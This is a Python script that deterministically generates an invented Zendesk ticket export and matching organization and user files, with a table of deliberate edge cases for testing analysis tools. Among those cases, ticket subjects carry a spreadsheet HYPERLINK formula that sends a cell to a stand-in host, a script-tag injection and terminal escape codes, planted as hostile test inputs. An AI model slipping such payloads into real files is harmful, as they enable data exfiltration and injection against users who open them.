"""Write the example export: `tickets.csv`, `organizations.csv` and `users.csv` beside this file, or in a given directory.

    python examples/zendesk/generate.py [DIRECTORY]

Everything is invented. The same bytes come out every time and on every machine: the only source of chance is
`random.Random(SEED).random()`, whose sequence Python promises to keep. Most tickets are as dull as in a real year; those
that show something are listed in SPECIAL, by their id.
"""

from __future__ import annotations

import random
import sys
from collections.abc import Mapping, Sequence
from dataclasses import dataclass, field, replace
from datetime import datetime, timedelta
from pathlib import Path
from typing import Final, TypeVar

SEED: Final = 20240101
FIRST_ID: Final = 20101
TICKETS: Final = 300
START: Final = datetime(2024, 1, 2, 8, 0)
END: Final = datetime(2024, 12, 30, 17, 0)
NOW: Final = datetime(2024, 12, 31, 9, 30)
"""When the export was made, on the account's clock: nothing in it is later."""

HEADER: Final = (
    "Summation column", "Id", "Requester", "Requester id", "Requester external id", "Requester email",
    "Requester domain", "Submitter", "Assignee", "Group", "Subject", "Tags", "Status", "Priority", "Via", "Ticket type",
    "Created at", "Updated at", "Assigned at", "Organization", "Due date", "Initially assigned at", "Solved at",
    "Resolution time", "Satisfaction Score", "Group stations", "Assignee stations", "Reopens", "Replies",
    "First reply time in minutes", "First reply time in minutes within business hours",
    "First resolution time in minutes", "First resolution time in minutes within business hours",
    "Full resolution time in minutes", "Full resolution time in minutes within business hours",
    "Agent wait time in minutes", "Agent wait time in minutes within business hours",
    "Requester wait time in minutes", "Requester wait time in minutes within business hours",
    "On hold time in minutes", "On hold time in minutes within business hours", "Product [list]",
)  # fmt: skip

# name, domain, edition. The spelling of an edition is as people typed it.
ORGANIZATIONS: Final = (
    ("Aurora Translations", "aurora.example", "team"),
    ("Bergmann & Söhne", "bergmann.example", "ultimate"),
    ("Blue Heron Publishing", "blueheron.example", "Ultimate"),
    ("Cobalt Games", "cobalt.example", "team"),
    ("Distrito Editorial", "distrito.example", "personal"),
    ("Eriksen Patent", "eriksen.example", "ultimate"),
    ("Fjord Medical", "fjord.example", "team"),
    ("Gravity Subtitles", "gravity.example", "team"),
    ("Harbour Insurance", "harbour.example", "ultimate"),
    ("Słowo i Znak", "slowo.example", "team"),
    ("Juniper Travel", "juniper.example", "personal"),
    ("Kestrel Software", "kestrel.example", "ULTIMATE"),
    ("Lindgren, Ek & Partner", "lindgren.example", "team"),
    ("Maison Lefèvre", "lefevre.example", "ultimate"),
    ("翻訳工房", "kobo.example", "team"),
    ("Northgate University", "northgate.example", "ultimate"),
    ("Orchid Cosmetics", "orchid.example", "team"),
    ("Pinnacle Legal", "pinnacle.example", " Ultimate "),
    ("Quarry Engineering", "quarry.example", "team"),
    ("Riverbend Foods", "riverbend.example", "personal"),
    ("Sandpiper Trials", "sandpiper.example", "trial"),
    ("Tidewater Volunteers", "tidewater.example", "free"),
    ("Umbra Studios", "umbra.example", "ultimat"),
)
NOT_LISTED: Final = "Verity Holdings"
"""An organization of which tickets tell, but not the list of organizations."""

# name, organization, locale
PEOPLE: Final = (
    ("Alba Ferrer", "Distrito Editorial", "en-GB"),
    ("Anders Eriksen", "Eriksen Patent", "en"),
    ("Astrid Ek", "Lindgren, Ek & Partner", "en-GB"),
    ("Ben Okafor", "Cobalt Games", "en-US"),
    ("Camille Lefèvre", "Maison Lefèvre", "en"),
    ("Chloé Martin", "Maison Lefèvre", "en"),
    ("Daniel Park", "Kestrel Software", "en-US"),
    ("Deborah Stone", "Quarry Engineering", "en-US"),
    ("Elena Petrova", "Gravity Subtitles", "en-GB"),
    ("Erik Lindgren", "Lindgren, Ek & Partner", "en_gb"),
    ("Fiona Walsh", "Harbour Insurance", "en-IE"),
    ("George Hale", "Northgate University", "en-GB"),
    ("Grace Lin", "Orchid Cosmetics", "en-US"),
    ("Hana Novotná", "Aurora Translations", "en"),
    ("Ingrid Solberg", "Fjord Medical", "en"),
    ("Isaac Mensah", "Kestrel Software", "en-US"),
    ("Joanna Zielińska", "Słowo i Znak", "en"),
    ("Kenji 田中", "翻訳工房", "en"),
    ("Laura Bianchi", "Blue Heron Publishing", "en-GB"),
    ("Liam O'Connor", "Harbour Insurance", "en-IE"),
    ("Maja Kowalczyk", "Słowo i Znak", "en"),
    ("Marcus Reed", "Pinnacle Legal", "en-US"),
    ("Martin Svoboda", "Aurora Translations", "en"),
    ("Nadia Rahman", "Northgate University", "en-GB"),
    ("Nora Whitfield", "Blue Heron Publishing", "en-US"),
    ("Olu Adeyemi", "Cobalt Games", "en-GB"),
    ("Paula Gómez", "Juniper Travel", "en-US"),
    ("Peter Vance", "Riverbend Foods", "en-US"),
    ("Priya Nair", "Quarry Engineering", "en-IN"),
    ("Rosa Almeida", "Gravity Subtitles", "en"),
    ("Sam Whitaker", "Pinnacle Legal", "en-US"),
    ("Sigrid Dahl", "Fjord Medical", "en"),
    ("Tom Bergmann", "Bergmann & Söhne", "en"),
    ("Ursula Haas", "Bergmann & Söhne", "en"),
    ("Yuki 佐藤", "翻訳工房", "en-US"),
    ("Zoe Hartley", "Orchid Cosmetics", "en-GB"),
)
GERMAN: Final = ("Jürgen Weiß", "Bergmann & Söhne", "de")
SWISS: Final = ("Beat Ammann", "Eriksen Patent", "de-CH")
TRIAL: Final = ("Wendy Cole", "Sandpiper Trials", "en-US")
FREE: Final = ("Xavier Brandt", "Tidewater Volunteers", "en")
MISSPELT: Final = ("Vera Lorenz", "Umbra Studios", "en-GB")
UNLISTED: Final = ("Hugh Verity", NOT_LISTED, "en-GB")
ALONE: Final = ("Ida Sommer", "", "en")
GHOST: Final = ("Theo Blank", "Kestrel Software", "en-US")
"""A requester whom the list of users does not have."""

AGENTS: Final = ("Karel Dvořák", "Mina Castillo", "Oliver Grant", "Renata Silva", "Sofie Lund", "Tariq Aziz")
GROUPS: Final = ("Technical Support", "Technical Support", "Technical Support", "Onboarding")
PRODUCTS: Final = ("Editor for Web", "Editor for Desktop", "Project management", "Connectors", "API", "")
PRIORITIES: Final = ("Normal", "Normal", "Normal", "Normal", "Low", "High", "Urgent", "-")
TYPES: Final = ("Question", "Question", "Incident", "Problem", "Task", "-")
# Both of Zendesk's vocabularies, and some numbers: the account changed its export more than once.
CHANNELS: Final = (
    "Mail", "Mail", "Mail", "Mail", "email", "email", "mail", "Web form", "Web form", "web", "web_form", "Web Widget",
    "helpcenter", "Chat", "chat", "native_messaging", "4", "0", "Web service", "mobile_sdk",
)  # fmt: skip
SUBJECTS: Final = (
    "Job export fails with error 500",
    "Cannot open project after upgrade",
    "Term base import stops at row 1000",
    "Segments are locked, but nobody works on them",
    "How do I share a translation memory?",
    "Login with single sign-on loops",
    "Analysis shows 0 words",
    "Preview is empty for InDesign files",
    "Machine translation quota reached?",
    "Comments are missing in the exported DOCX",
    "Connector does not see new branches",
    "Wrong currency in quotes",
    "Need to restore a deleted project",
    "Quality check reports tags, though there are none",
    "Webhook is not called",
    "Slow since Monday",
    "Vendor cannot accept a job",
    "Editor für Web: Umlaute werden falsch angezeigt",
    "Spell checker ignores user dictionary",
    "API returns 403 for a project owner",
)
TAGS: Final = ("", "", "editor", "import", "export", "sso", "connector api", "billing", "tm", "editor import")

T = TypeVar("T")


@dataclass(frozen=True)
class Ticket:
    """One row of the view. `reply` and `solved` are minutes after `created`; `only` replaces cells by column name."""

    id: int
    person: tuple[str, str, str]
    created: datetime
    via: str
    subject: str
    tags: str
    status: str
    reply: int | None
    replies: int
    solved: int | None
    priority: str
    kind: str
    product: str
    agent: str
    group: str
    score: str
    only: Mapping[str, str] = field(default_factory=dict)


# What single tickets show: id to (what, how it differs from a dull one). The README explains the same list.
_UNANSWERED: Final = {"reply": None, "replies": 0, "solved": None}
SPECIAL: Final[Mapping[int, tuple[str, Mapping[str, object]]]] = {
    20108: ("a sample ticket that came with the account", {
        "subject": "Sample ticket: Meet the ticket", "tags": "sample support zendesk", "via": "Sample ticket",
        "status": "Open", **_UNANSWERED}),
    20112: ("exactly 720 minutes", {"reply": 720, "solved": 1500}),
    20119: ("719 minutes", {"reply": 719, "solved": 1610}),
    20127: ("721 minutes", {"reply": 721, "solved": 2200}),
    20134: ("a formula in the subject", {"subject": '=HYPERLINK("http://collect.example/?"&A1,"Open invoice")'}),
    20141: ("a script in the subject", {"subject": '<script>alert("1")</script> Search box shows nothing'}),
    20146: ("a terminal escape in the subject", {"subject": "\x1b[2J\x1b[31mURGENT\x1b[0m please call back"}),
    20151: ("a line break in the subject", {"subject": "Two things:\n1. export fails\n2. import works, mostly"}),
    20158: ("a trial", {"person": TRIAL}),
    20166: ("a trial, answered late", {"person": TRIAL, "reply": 2950, "solved": 4000}),
    20171: ("a free edition, never answered", {"person": FREE, "status": "Open", **_UNANSWERED}),
    20175: ("a telephone call", {"via": "Phone call (inbound)", "subject": "Call with +1 555 0100", "reply": 0}),
    20183: ("a telephone call, by its type's name", {"via": "phone_call_inbound", "subject": "Missed call", "reply": 1900,
                                                    "solved": 2900}),
    20187: ("a voice message, by its type's number", {"via": "33", "subject": "Voicemail from +1 555 0123", "reply": 95}),
    20192: ("a German requester", {"person": GERMAN, "subject": "Export schlägt fehl"}),
    20199: ("a German requester, answered late", {"person": GERMAN, "reply": 1444, "solved": 3000}),
    20203: ("late over a weekend", {"created": datetime(2024, 5, 4, 14, 20), "reply": 2681, "solved": 4102}),
    20204: ("a Swiss requester", {"person": SWISS, "subject": "Zugriff auf Projekt, bitte dringend prüfen"}),
    20218: ("merged into another ticket", {
        "tags": "closed_by_merge", "status": "Closed", "reply": None, "replies": 0, "solved": 12}),
    20219: ("merged, and late", {"tags": "export closed_by_merge", "status": "Closed", "reply": 1801, "solved": 1900}),
    20226: ("spam that somebody tagged", {
        "subject": "CHEAP SEO!!! 100% guaranteed", "tags": "spam", "status": "Closed", "person": ALONE, **_UNANSWERED}),
    20231: ("deleted", {"status": "Deleted", **_UNANSWERED}),
    20236: ("a misspelt edition, answered late", {"person": MISSPELT, "reply": 1105, "solved": 2600}),
    20237: ("a misspelt edition", {"person": MISSPELT}),
    20245: ("an organization that is not in the list", {"person": UNLISTED}),
    20252: ("a requester without an organization", {"person": ALONE}),
    20259: ("a requester who is not in the list of users", {"person": GHOST}),
    20266: ("a reply that was not measured", {"reply": None, "replies": 2}),
    20273: ("opened by an agent", {"reply": None, "replies": 1, "only": {"Submitter": AGENTS[1]}}),
    20278: ("answered late by an hour", {"reply": 782, "solved": 1900}),
    20285: ("a follow-up, whose channel is not stated", {"via": "Closed ticket"}),
    20293: ("a channel that Zendesk does not have", {"via": "Carrier pigeon"}),
    20301: ("two records with one id", {"status": "Open", "solved": None}),
    20312: ("the same record twice", {}),
    20333: ("solved without an answer", {"status": "Solved", "reply": None, "replies": 0, "solved": 4310}),
    20341: ("never answered", {"status": "Open", "created": datetime(2024, 10, 19, 6, 41), **_UNANSWERED}),
    20347: ("a test by the team", {"tags": "test_ticket", "subject": "test, please ignore", "person": ALONE}),
    20355: ("a torn record", {}),
    20362: ("a stray quote", {"subject": "Offline mode shows no segments"}),
    20370: ("bytes that are not UTF-8", {"subject": "Café menu: accents are lost"}),
    20377: ("late in summer time", {"reply": 805, "solved": 2000}),
    20399: ("not answered yet", {"status": "New", "created": NOW - timedelta(hours=3, minutes=12), **_UNANSWERED}),
    20400: ("not answered yet, an hour before the limit", {
        "status": "Open", "created": NOW - timedelta(hours=11), **_UNANSWERED}),
}  # fmt: skip
TWICE, CONFLICT, TORN, STRAY, LATIN = 20312, 20301, 20355, 20362, 20370


def main(directory: Path) -> None:
    """Write the three files into `directory`."""
    directory.joinpath("tickets.csv").write_bytes(tickets_csv())
    directory.joinpath("organizations.csv").write_bytes(organizations_csv())
    directory.joinpath("users.csv").write_bytes(users_csv())


def tickets_csv() -> bytes:
    """The view, ordered by Id as exports mostly are."""
    lines = [record(HEADER)]
    for ticket in tickets():
        line = record(row(ticket))
        if ticket.id == TORN:
            line = line[: line.index(b"," + ticket.group.encode()) + 6] + b"\n"
        elif ticket.id == STRAY:
            line = line.replace(b"Offline mode", b'"Offline" mode')
        elif ticket.id == LATIN:
            line = line.replace("é".encode(), "é".encode("latin-1"))
        lines.append(line)
        if ticket.id == TWICE:
            lines.append(line)
        elif ticket.id == CONFLICT:
            later = replace(ticket, status="Solved", solved=3121, tags="export reopened")
            lines.append(record(row(later)))
    return b"".join(lines)


def organizations_csv() -> bytes:
    """The organizations with their editions."""
    lines = [record(("id", "name", "domain_names", "edition"))]
    lines += [
        record((str(360001000 + n * 37), name, domain, edition))
        for n, (name, domain, edition) in enumerate(ORGANIZATIONS)
    ]
    return b"".join(lines)


def users_csv() -> bytes:
    """The requesters with their languages."""
    lines = [record(("id", "name", "email", "role", "locale"))]
    for person in (*PEOPLE, GERMAN, SWISS, TRIAL, FREE, MISSPELT, UNLISTED, ALONE):
        lines.append(record((requester_id(person), person[0], email(person), "end-user", person[2])))
    return b"".join(lines)


def tickets() -> list[Ticket]:
    """All tickets by id, the special ones among them."""
    rng = random.Random(SEED)
    step = (END - START) / TICKETS
    found = []
    for n in range(TICKETS):
        created = minute(START + step * (n + rng.random()))
        reply = reply_minutes(rng)
        solved = reply + int(20 + rng.random() ** 3 * 9000)
        ticket = Ticket(
            id=FIRST_ID + n,
            person=pick(rng, PEOPLE),
            created=created,
            via=pick(rng, CHANNELS),
            subject=pick(rng, SUBJECTS),
            tags=pick(rng, TAGS),
            status="Closed",
            reply=reply,
            replies=1 + int(rng.random() ** 2 * 6),
            solved=solved,
            priority=pick(rng, PRIORITIES),
            kind=pick(rng, TYPES),
            product=pick(rng, PRODUCTS),
            agent=pick(rng, AGENTS),
            group=pick(rng, GROUPS),
            score=pick(rng, ("Not Offered", "Not Offered", "Offered", "Good", "Good", "Bad")),
        )
        ticket = replace(ticket, **SPECIAL.get(ticket.id, ("", {}))[1])  # type: ignore[arg-type]
        found.append(settled(ticket))
    return found


def reply_minutes(rng: random.Random) -> int:
    """A reply time well within twelve hours: mostly within two, sometimes overnight."""
    if rng.random() < 0.85:
        return int(2 + rng.random() ** 2 * 130)
    return int(140 + rng.random() * 540)


def settled(ticket: Ticket) -> Ticket:
    """Cut off what would lie after the export, and let young tickets be solved rather than closed."""
    if ticket.solved is None:
        return ticket
    solved_at = ticket.created + timedelta(minutes=ticket.solved)
    if solved_at > NOW - timedelta(minutes=30):
        return replace(ticket, solved=None, status="Pending")
    if solved_at > NOW - timedelta(days=4) and ticket.status == "Closed":
        return replace(ticket, status="Solved")
    return ticket


def row(ticket: Ticket) -> list[str]:
    """The cells of one ticket, in the order of HEADER."""
    created = ticket.created
    replied = None if ticket.reply is None else created + timedelta(minutes=ticket.reply)
    solved = None if ticket.solved is None else created + timedelta(minutes=ticket.solved)
    updated = latest(solved, replied, created)
    if ticket.status == "Closed" and solved is not None:
        updated = solved + timedelta(days=4, minutes=ticket.id % 60)  # an automation closes them after four days
    assigned = created + timedelta(minutes=1 + ticket.id % 3) if replied or solved else None
    wait = None if ticket.solved is None else ticket.solved * (35 + ticket.id % 40) // 100
    hold = 0 if ticket.solved is None else ticket.solved // 9 if ticket.id % 11 == 0 else 0
    cells = {
        "Summation column": "1",
        "Id": str(ticket.id),
        "Requester": ticket.person[0],
        "Requester id": requester_id(ticket.person),
        "Requester email": email(ticket.person),
        "Requester domain": domain(ticket.person),
        "Submitter": ticket.person[0],
        "Assignee": ticket.agent if assigned else "-",
        "Group": ticket.group,
        "Subject": ticket.subject,
        "Tags": ticket.tags,
        "Status": ticket.status,
        "Priority": ticket.priority,
        "Via": ticket.via,
        "Ticket type": ticket.kind,
        "Created at": written(created),
        "Updated at": written(min(updated, NOW)),
        "Assigned at": written(assigned),
        "Organization": ticket.person[1] or "-",
        "Initially assigned at": written(assigned),
        "Solved at": written(solved),
        "Resolution time": "" if ticket.solved is None else str((ticket.solved + 30) // 60),
        "Satisfaction Score": ticket.score if solved else "Not Offered",
        "Group stations": "1" if assigned else "0",
        "Assignee stations": str(1 + ticket.id % 2) if assigned else "0",
        "Reopens": "1" if solved and ticket.id % 17 == 0 else "0",
        "Replies": str(ticket.replies),
        "First reply time in minutes": number(ticket.reply),
        "First reply time in minutes within business hours": business(created, replied),
        "First resolution time in minutes": number(ticket.solved),
        "First resolution time in minutes within business hours": business(created, solved),
        "Full resolution time in minutes": number(ticket.solved),
        "Full resolution time in minutes within business hours": business(created, solved),
        "Agent wait time in minutes": "" if wait is None or ticket.solved is None else str(ticket.solved - wait - hold),
        "Requester wait time in minutes": number(wait),
        "On hold time in minutes": str(hold),
        "On hold time in minutes within business hours": str(hold * 8 // 24),
        "Product [list]": ticket.product,
        **ticket.only,
    }
    return [cells.get(name, "") for name in HEADER]


def record(cells: Sequence[str]) -> bytes:
    """One CSV record, quoted only where it must be."""
    return (",".join(quoted(cell) for cell in cells) + "\n").encode()


def quoted(cell: str) -> str:
    return '"' + cell.replace('"', '""') + '"' if any(c in cell for c in '",\r\n') else cell


def requester_id(person: tuple[str, str, str]) -> str:
    """A number that follows from the name alone."""
    return str(370_000_000_000 + sum(byte * 257**n for n, byte in enumerate(person[0].encode()[:4])) % 999_999_937)


def email(person: tuple[str, str, str]) -> str:
    words = "".join(c if c.isascii() else "" for c in person[0].lower().replace("'", "")).split()
    return f"{'.'.join(words)}@{domain(person)}"


def domain(person: tuple[str, str, str]) -> str:
    return {name: domain for name, domain, _ in ORGANIZATIONS}.get(person[1], "mail.example")


def business(start: datetime, end: datetime | None) -> str:
    """Minutes from Monday to Friday, 09:00 to 17:00, on the account's clock."""
    if end is None:
        return ""
    total = timedelta()
    day = datetime(start.year, start.month, start.day)
    while day <= end:
        if day.weekday() < 5:
            opens, closes = day + timedelta(hours=9), day + timedelta(hours=17)
            total += max(min(end, closes) - max(start, opens), timedelta())
        day += timedelta(days=1)
    return str(total // timedelta(minutes=1))


def latest(*times: datetime | None) -> datetime:
    return max(time for time in times if time is not None)


def minute(time: datetime) -> datetime:
    return time.replace(second=0, microsecond=0)


def written(time: datetime | None) -> str:
    return "" if time is None else time.strftime("%Y-%m-%d %H:%M")


def number(minutes: int | None) -> str:
    return "" if minutes is None else str(minutes)


def pick(rng: random.Random, choices: Sequence[T]) -> T:
    return choices[int(rng.random() * len(choices))]


if __name__ == "__main__":
    main(Path(sys.argv[1]) if len(sys.argv) > 1 else Path(__file__).parent)
